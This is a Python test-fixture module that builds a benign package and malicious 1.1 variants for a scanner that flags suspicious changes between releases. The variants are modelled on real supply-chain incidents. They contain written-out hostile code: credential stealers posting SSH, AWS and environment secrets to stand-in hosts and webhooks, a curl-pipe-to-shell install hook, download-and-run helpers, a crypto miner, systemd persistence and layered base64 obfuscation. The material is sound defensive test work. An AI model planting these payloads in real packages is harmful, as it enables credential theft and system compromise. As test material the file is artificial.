"""The behaviour-diff evaluation corpus: a small benign package and its 1.1 variants.

``tinyweb`` 1.0 is an ordinary HTTP helper library: it already uses the network (so a
new download in 1.1 is judged against that), has a project URL on its own host, and a
handful of modules. Each 1.1 variant is 1.0 plus one change:

* ``MALICIOUS``: one variant per documented kind of compromise (the seven kinds of the
  behaviour-diff issue) and one per real case (ultralytics 8.3.41, litellm 1.82.8,
  lightning 2.6.2, ctx 0.2.x, aiocpa 0.1.13), modelled on public write-ups. Every one
  must get a high or critical finding.
* ``BENIGN``: a refactor, a new feature, a new pure-Python dependency and a version bump
  touching every file. None may get a high or critical finding.

Payloads are inert: they name ``*.example`` or reserved hosts and are never run.
"""

from __future__ import annotations

import base64
import random
import zlib
from collections.abc import Callable
from dataclasses import dataclass, replace

from tests.helpers.dists import DistSpec

__all__ = ["BASE", "BENIGN", "MALICIOUS", "Variant"]

_INIT = '''"""tinyweb: tiny helpers for HTTP APIs."""

from tinyweb.client import Client, get_json
from tinyweb.util import join_url, slugify

__all__ = ["Client", "get_json", "join_url", "slugify"]
__version__ = "{version}"
'''

_CLIENT = '''"""A minimal JSON-over-HTTP client."""

import json
import urllib.request

from tinyweb.util import join_url

DEFAULT_BASE = "https://api.tinyweb.example/v1/"


class Client:
    """Talks to one JSON API."""

    def __init__(self, base=DEFAULT_BASE, timeout=10.0):
        self.base = base
        self.timeout = timeout

    def get(self, path):
        with urllib.request.urlopen(join_url(self.base, path), timeout=self.timeout) as reply:
            return json.load(reply)


def get_json(url, timeout=10.0):
    """Fetch ``url`` and decode its JSON body."""
    with urllib.request.urlopen(url, timeout=timeout) as reply:
        return json.load(reply)
'''

_UTIL = '''"""Small string helpers."""

import re

_SLUG = re.compile(r"[^a-z0-9]+")


def join_url(base, path):
    return base.rstrip("/") + "/" + path.lstrip("/")


def slugify(text):
    return _SLUG.sub("-", text.lower()).strip("-")


def chunks(items, size):
    for start in range(0, len(items), size):
        yield items[start : start + size]
'''

_DOWNLOADS = '''"""Download helpers."""

import shutil
import urllib.request
from pathlib import Path


def download(url, dest):
    dest = Path(dest)
    with urllib.request.urlopen(url) as reply, dest.open("wb") as out:
        shutil.copyfileobj(reply, out)
    return dest
'''

_METADATA = {
    "Author-email": "Tiny Web Team <team@tinyweb.example>",
    "Project-URL": [
        "Homepage, https://tinyweb.example/",
        "Source, https://git.tinyweb.example/tinyweb",
    ],
    "License": "MIT",
}


def _files(version: str) -> dict[str, str | bytes]:
    return {
        "tinyweb/__init__.py": _INIT.format(version=version),
        "tinyweb/client.py": _CLIENT,
        "tinyweb/util.py": _UTIL,
        "tinyweb/utils/__init__.py": "",
        "tinyweb/utils/downloads.py": _DOWNLOADS,
    }


BASE = DistSpec(
    "tinyweb",
    "1.0",
    files=_files("1.0"),
    requires_dist=("certifi>=2024",),
    metadata_extra=_METADATA,
)


@dataclass(frozen=True)
class Variant:
    """A 1.1 release of ``tinyweb``: 1.0 plus one change."""

    id: str
    what: str
    change: Callable[[DistSpec], DistSpec]
    #: The forms the change exists in (an install hook only exists in an sdist).
    forms: tuple[str, ...] = ("wheel", "sdist")
    #: Rule ids of which at least one must be reported high or critical (malicious only).
    expect: tuple[str, ...] = ()
    #: Seconds between 1.0 and 1.1 uploads, when the gap itself is part of the story.
    gap_days: int = 30

    def build(self) -> DistSpec:
        """The 1.1 spec."""
        spec = replace(BASE, version="1.1", files=_files("1.1"))
        return self.change(spec)


def _put(spec: DistSpec, path: str, content: str | bytes) -> DistSpec:
    merged = dict(spec.files)
    merged[path] = content
    return replace(spec, files=merged)


def _append(spec: DistSpec, path: str, content: str) -> DistSpec:
    before = spec.files[path]
    assert isinstance(before, str)
    return _put(spec, path, before + content)


def _blob(size: int, seed: int = 7) -> bytes:
    # Reproducible filler with the entropy of machine code; not for secrets.
    rng = random.Random(seed)  # noqa: S311
    return bytes(rng.getrandbits(8) for _ in range(size))


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


_STEALER = (
    "import os, json, urllib.request\n"
    "paths = ['~/.ssh/id_rsa', '~/.aws/credentials', '~/.config/gcloud', '.env']\n"
    "home = os.path.expanduser\n"
    "data = {p: open(home(p)).read() for p in paths if os.path.exists(home(p))}\n"
    "urllib.request.urlopen('https://collect.models-sync.example/up', json.dumps(data).encode())\n"
)


# -- the seven kinds of compromise ------------------------------------------------------


def _pth(spec: DistSpec) -> DistSpec:
    payload = _b64("import os; os.system('id > /tmp/.x')")
    return _put(
        spec, "tinyweb_autoload.pth", f"import base64; exec(base64.b64decode('{payload}'))\n"
    )


def _install_hook(spec: DistSpec) -> DistSpec:
    setup = (
        "import os\n"
        "from setuptools import setup\n"
        "from setuptools.command.install import install\n\n\n"
        "class PostInstall(install):\n"
        "    def run(self):\n"
        "        install.run(self)\n"
        "        os.system('curl -s https://cdn.tinyweb-update.example/i.sh | sh')\n\n\n"
        "setup(cmdclass={'install': PostInstall})\n"
    )
    return _put(spec, "setup.py", setup)


def _decode_exec(spec: DistSpec) -> DistSpec:
    payload = _b64("import socket; socket.create_connection(('203.0.113.7', 4444))")
    return _append(
        spec,
        "tinyweb/__init__.py",
        f"\nimport base64 as _b\nexec(_b.b64decode('{payload}'))\n",
    )


def _download_run(spec: DistSpec) -> DistSpec:
    return _append(
        spec,
        "tinyweb/utils/downloads.py",
        "\n\ndef ensure_helper():\n"
        "    import os, subprocess\n"
        "    path = '/tmp/.tinyweb-helper'\n"
        "    urllib.request.urlretrieve('http://198.51.100.23/helper', path)\n"
        "    os.chmod(path, 0o755)\n"
        "    subprocess.Popen([path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n",
    )


def _credential_exfil(spec: DistSpec) -> DistSpec:
    return _append(
        spec,
        "tinyweb/client.py",
        "\n\ndef _sync_config():\n"
        "    import os\n"
        "    with open(os.path.expanduser('~/.aws/credentials')) as handle:\n"
        "        body = handle.read().encode()\n"
        "    urllib.request.urlopen('https://discord.com/api/webhooks/1234/abcd', body)\n",
    )


_ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"\x02\x00\x3e\x00" + _blob(40_000, seed=3)


def _bundled_binary(spec: DistSpec) -> DistSpec:
    return _put(spec, "tinyweb/bin/tinyweb-helper", _ELF)


def _typosquat_dependency(spec: DistSpec) -> DistSpec:
    return replace(spec, requires_dist=(*spec.requires_dist, "reqeusts>=2"))


# -- the five real cases -----------------------------------------------------------------


def _ultralytics(spec: DistSpec) -> DistSpec:
    # 8.3.41: published with valid attestations from a poisoned CI cache; a new function in
    # utils/downloads.py fetched an XMRig miner, chmod'ed and ran it.
    return _append(
        spec,
        "tinyweb/utils/downloads.py",
        "\n\ndef safe_run(cfg=None):\n"
        "    import os, subprocess\n"
        "    url = 'https://github.example/xmrig/xmrig/releases/download/v6.22/xmrig'\n"
        "    target = '/tmp/ultralytics_runner'\n"
        "    download(url, target)\n"
        "    subprocess.run(['chmod', '+x', target])\n"
        "    pool = 'pool.tinyweb.example:3333'\n"
        "    subprocess.Popen([target, '-o', pool, '--donate-level', '1'])\n",
    )


def _litellm(spec: DistSpec) -> DistSpec:
    # 1.82.8: a new 34 KB base64 .pth file stealing SSH, cloud and .env secrets and
    # persisting via systemd.
    script = _STEALER + (
        "unit = os.path.expanduser('~/.config/systemd/user/sync.service')\n"
        "open(unit, 'w').write('[Service]\\nExecStart=python3 -c ...\\n')\n"
        "os.system('systemctl --user enable sync.service')\n"
    )
    padding = "#" + "x" * 70 + "\n"
    encoded = _b64(script + padding * 340)
    return _put(spec, "litellm_init.pth", f"import base64;exec(base64.b64decode('{encoded}'))\n")


def _lightning(spec: DistSpec) -> DistSpec:
    # 2.6.2: a new hidden _runtime/ directory with a large obfuscated JS file, started by a
    # daemon thread from __init__.py with output silenced.
    words = [f"_0x{n:04x}" for n in range(4000)]
    body = ";".join(f"var {w}=atob('{_b64(w * 3)}')" for w in words)
    js = (
        "const cp=require('child_process'),https=require('https');"
        + body
        + ";eval(atob('"
        + _b64("cp.exec('cat ~/.aws/credentials')")
        + "'));"
    )
    js_bytes = (js * 8).encode()
    spec = _put(spec, "tinyweb/_runtime/.cache/router_runtime.js", js_bytes)
    return _append(
        spec,
        "tinyweb/__init__.py",
        "\nimport os as _os, subprocess as _sp, threading as _th\n"
        "_th.Thread(target=lambda: _sp.run(['node', _os.path.join(_os.path.dirname(__file__), "
        "'_runtime', '.cache', 'router_runtime.js')], stdout=_sp.DEVNULL, stderr=_sp.DEVNULL), "
        "daemon=True).start()\n",
    )


def _ctx(spec: DistSpec) -> DistSpec:
    # 0.2.x: a dict class's __init__ base64-encodes all of os.environ to a web host, after
    # an eight-year release gap.
    return _put(
        spec,
        "tinyweb/ctx.py",
        "import base64\nimport os\nimport urllib.request\n\n\n"
        "class Ctx(dict):\n"
        "    def __init__(self):\n"
        "        super().__init__()\n"
        "        blob = base64.b64encode(str(dict(os.environ)).encode()).decode()\n"
        "        host = 'https://anti-theft-web.herokuapp.example'\n"
        "        urllib.request.urlopen(host + '/hacked/' + blob)\n",
    )


def _aiocpa(spec: DistSpec) -> DistSpec:
    # 0.1.13: a 50-layer obfuscated block sending the client's constructor arguments to a
    # Telegram bot.
    code = (
        "import urllib.request, json\n"
        "def _hook(args):\n"
        "    urllib.request.urlopen('https://api.telegram.org/bot7000:AAE/sendMessage', "
        "json.dumps({'chat_id': 1, 'text': repr(args)}).encode())\n"
    )
    layer = code
    for _ in range(50):
        packed = base64.b64encode(zlib.compress(layer.encode())).decode()
        layer = f"import zlib, base64\nexec(zlib.decompress(base64.b64decode('{packed}')))\n"
    return _put(spec, "tinyweb/sync.py", layer)


# -- benign changes ----------------------------------------------------------------------


def _refactor(spec: DistSpec) -> DistSpec:
    util = _UTIL.replace("def chunks(items, size):", "def batched(items, size):")
    spec = _put(spec, "tinyweb/util.py", util.split("\n\ndef slugify")[0] + "\n")
    spec = _put(
        spec,
        "tinyweb/text.py",
        '"""Text helpers (moved from util)."""\n\nimport re\n\n'
        '_SLUG = re.compile(r"[^a-z0-9]+")\n\n\n'
        'def slugify(text):\n    return _SLUG.sub("-", text.lower()).strip("-")\n',
    )
    init = _INIT.format(version="1.1").replace(
        "from tinyweb.util import join_url, slugify",
        "from tinyweb.text import slugify\nfrom tinyweb.util import join_url",
    )
    return _put(spec, "tinyweb/__init__.py", init)


def _feature(spec: DistSpec) -> DistSpec:
    return _put(
        spec,
        "tinyweb/pagination.py",
        '"""Follow paginated API responses."""\n\nimport json\nimport urllib.request\n\n'
        'DEFAULT_NEXT = "https://api.tinyweb.example/v2/items"\n\n\n'
        "def pages(url=DEFAULT_NEXT, limit=100):\n"
        "    while url and limit:\n"
        "        with urllib.request.urlopen(url) as reply:\n"
        "            page = json.load(reply)\n"
        '        yield page["items"]\n'
        '        url, limit = page.get("next"), limit - 1\n',
    )


def _dependency(spec: DistSpec) -> DistSpec:
    return replace(spec, requires_dist=(*spec.requires_dist, "idna>=3.7"))


def _bump(spec: DistSpec) -> DistSpec:
    files = {
        path: (
            f"# tinyweb 1.1 (c) the tinyweb authors\n{content}" if path.endswith(".py") else content
        )
        for path, content in spec.files.items()
        if isinstance(content, str)
    }
    return replace(spec, files=files)


MALICIOUS = (
    Variant("pth-file", "a .pth file that runs at start-up", _pth, expect=("pth-exec",)),
    Variant(
        "install-hook",
        "a setup.py install command that downloads and runs a script",
        _install_hook,
        forms=("sdist",),
        expect=("install-hook", "download-exec"),
    ),
    Variant(
        "decode-exec", "exec of a base64 blob in __init__", _decode_exec, expect=("decode-exec",)
    ),
    Variant(
        "download-run",
        "download a file, chmod it, run it",
        _download_run,
        expect=("download-exec",),
    ),
    Variant(
        "credential-exfil",
        "~/.aws/credentials posted to a webhook",
        _credential_exfil,
        expect=("exfiltration", "credential-read", "suspicious-endpoint"),
    ),
    Variant(
        "bundled-binary",
        "an ELF executable in a pure wheel",
        _bundled_binary,
        expect=("binary-added",),
    ),
    Variant(
        "typosquat-dependency",
        "a new dependency on a typosquat",
        _typosquat_dependency,
        expect=("dependency-typosquat",),
    ),
    Variant("ultralytics", "ultralytics 8.3.41", _ultralytics, expect=("miner", "download-exec")),
    Variant("litellm", "litellm 1.82.8", _litellm, expect=("pth-exec",)),
    Variant(
        "lightning",
        "lightning 2.6.2",
        _lightning,
        expect=("decode-exec", "import-time-thread", "hidden-directory", "credential-read"),
    ),
    Variant(
        "ctx",
        "ctx 0.2.x",
        _ctx,
        expect=("exfiltration",),
        gap_days=8 * 365,
    ),
    Variant("aiocpa", "aiocpa 0.1.13", _aiocpa, expect=("decode-exec",)),
)

BENIGN = (
    Variant("refactor", "functions moved between modules", _refactor),
    Variant("feature", "a new paginated API helper", _feature),
    Variant("dependency", "a new pure-Python dependency", _dependency),
    Variant("bump", "a version bump touching every file", _bump),
)
